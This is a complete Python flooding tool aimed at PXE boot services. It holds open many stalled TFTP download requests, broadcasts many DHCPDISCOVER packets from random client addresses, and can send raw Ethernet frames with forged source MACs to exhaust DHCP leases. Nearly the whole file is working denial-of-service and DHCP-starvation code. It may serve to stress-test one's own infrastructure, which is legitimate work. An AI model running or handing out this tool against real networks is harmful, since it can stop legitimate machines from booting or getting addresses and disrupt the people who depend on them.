"""Ask a PXE service more than one client's share: flood.py KIND SERVER COUNT

KIND tftp begins so many downloads and goes on with none, each on a socket of its own; dhcp
discovers servers for so many clients, each from a socket of its own; strangers is dhcp in frames
with a source address of their own each. Keeps the sockets until its input ends.
"""

import resource
import secrets
import socket
import struct
import sys
from collections.abc import Iterator

READ = b"\0\1bootnetx64.efi\0octet\0"
BROADCAST = "255.255.255.255"


def discover() -> bytes:
    """Return a DHCPDISCOVER (RFC 2131) of a client that nobody knows."""
    head = struct.pack("!4BIHH16x", 1, 1, 6, 0, secrets.randbits(32), 0, 0x8000)
    client = b"\2" + secrets.token_bytes(5) + bytes(10 + 192)
    return head + client + b"\x63\x82\x53\x63" + bytes((53, 1, 1, 255))


def frame() -> bytes:
    """Return it as an Ethernet frame from nobody's address."""
    said = discover()
    udp = struct.pack("!4H", 68, 67, 8 + len(said), 0) + said
    ip = struct.pack("!BBHHHBBH4x4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\xff" * 4)
    total = sum(struct.unpack("!10H", ip))
    total = (total & 0xFFFF) + (total >> 16)
    ip = ip[:10] + struct.pack("!H", ~total & 0xFFFF) + ip[12:]
    return b"\xff" * 6 + b"\2" + secrets.token_bytes(5) + b"\x08\x00" + ip + udp


def sent(kind: str, server: str, count: int) -> Iterator[socket.socket]:
    if kind == "strangers":
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
            link.bind(("eth0", 0))
            for _ in range(count):
                link.send(frame())
                yield link
        return
    to = (server, 69) if kind == "tftp" else (BROADCAST, 67)
    for _ in range(count):
        client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        client.sendto(READ if kind == "tftp" else discover(), to)
        yield client


kind, server, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
kept = list(sent(kind, server, count))
print("sent", flush=True)
sys.stdin.read()
